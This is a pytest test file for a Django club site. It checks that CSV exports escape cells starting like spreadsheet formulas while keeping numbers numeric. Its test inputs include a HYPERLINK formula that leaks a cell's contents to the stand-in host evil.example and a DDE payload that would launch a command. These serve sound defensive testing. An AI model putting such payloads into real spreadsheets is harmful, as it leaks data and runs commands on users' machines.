"""Every CSV the site writes opens in a spreadsheet as data: a cell taken from user input that
starts like a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) comes out as
text, while numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

import plumbing.csv_export as csv_export
from ledger import services as ledger
from tests.ledger_helpers import players_of
from tests.singapore_helpers import make_table, open_table, play

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def written(*cells) -> list[str]:
    out = io.StringIO()
    csv_export.writer(out).writerow(cells)
    return next(csv.reader(io.StringIO(out.getvalue())))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def runnable(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: a formula start that is not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


@pytest.mark.parametrize(
    "cell",
    [
        HYPERLINK,
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+39 333 1234567",
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell):
    [out] = written(cell)
    assert out.startswith("'")
    assert runnable([[out]]) == []


@pytest.mark.parametrize(
    "cell, expected",
    [
        (Decimal("-12.50"), "-12.50"),
        (-30, "-30"),
        ("-70.00", "-70.00"),
        (Decimal("0"), "0"),
        ("Anna", "Anna"),
        ("Zio = Pino", "Zio = Pino"),
    ],
)
def test_numbers_and_plain_text_are_written_as_they_are(cell, expected):
    assert written(cell) == [expected]


@pytest.mark.django_db
def test_a_guest_named_like_a_formula_comes_out_of_the_table_sheet_as_text(client, make_user):
    names = (HYPERLINK, "@SUM(1+1)", "+Bruno", "-Carla")
    world = make_table(make_user, ("Anna", "Dario"), guests=names)
    session = open_table(world, [HYPERLINK, "@SUM(1+1)"], first=(HYPERLINK, "@SUM(1+1)"))
    play(world, session, HYPERLINK, "@SUM(1+1)")
    client.force_login(world["scorer"])
    client.cookies["django_language"] = "en"

    response = client.get(f"/clubs/{world['club'].slug}/tables/{session.pk}/sheet.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert runnable(rows) == []
    assert rows[1][2:5] == ["'" + HYPERLINK, "'@SUM(1+1)", "'" + HYPERLINK]
    assert "'" + HYPERLINK in rows[0] and "'@SUM(1+1) balance" in rows[0]
    # The loser's change and balance are negative numbers, usable as numbers.
    assert [Decimal(cell) for cell in rows[1][8:]] == [70, 70, -70, -70]


@pytest.mark.django_db
def test_a_statement_line_described_like_a_formula_comes_out_as_text(client, people):
    p = players_of(people)
    ledger.post_transaction(
        club=people["club"],
        unit="EUR",
        key="@import",
        memo=HYPERLINK,
        entries={p["ada"]: "12.50", p["mia"]: "-12.50"},
    )
    client.force_login(people["member"])
    client.cookies["django_language"] = "en"

    response = client.get(
        f"/clubs/{people['club'].slug}/ledger/players/{p['mia'].pk}/statement.csv?unit=EUR"
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert runnable(rows) == []
    assert rows[1][1:] == ["'" + HYPERLINK, "Posting", "'@import", "-12.50", "-12.50", "EUR"]
    assert sum(Decimal(row[4]) for row in rows[1:]) == Decimal("-12.50")
